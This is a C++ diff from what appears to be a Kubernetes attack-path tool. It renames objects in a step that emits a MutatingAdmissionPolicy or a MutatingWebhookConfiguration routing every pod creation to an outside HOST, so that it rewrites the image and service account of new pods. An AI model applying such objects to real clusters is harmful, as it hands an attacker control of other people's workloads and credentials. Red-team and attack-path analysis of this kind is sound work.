@@ -41,7 +41,7 @@ constexpr std::string_view kPolicySpec =
 StepText text(const StepView& view) {
   const bool webhook = !uses(view.edge, kCreateMutatingPolicy);
   if (!webhook) {
-    const auto name = view.edge.note.empty() ? std::string("take-over") : view.edge.note;
+    const auto name = fresh_name(view, view.edge.note);
     const auto json = object_json("admissionregistration.k8s.io/v1alpha1",
                                   "MutatingAdmissionPolicy", {}, name, kPolicySpec);
     const auto binding =
@@ -52,7 +52,7 @@ StepText text(const StepView& view) {
             send_object(view, kCreateMutatingBinding, binding),
         "a mutating policy changes the image and the account of the next pod that anybody makes"};
   }
-  const auto name = view.edge.note.empty() ? std::string("take-over") : view.edge.note;
+  const auto name = fresh_name(view, view.edge.note);
   const auto json = object_json(
       "admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", {}, name,
       R"(,"webhooks":[{"name":"take.over.example","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","clientConfig":{"url":"https://HOST/mutate","caBundle":"BASE64-OF-CA"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]}])");
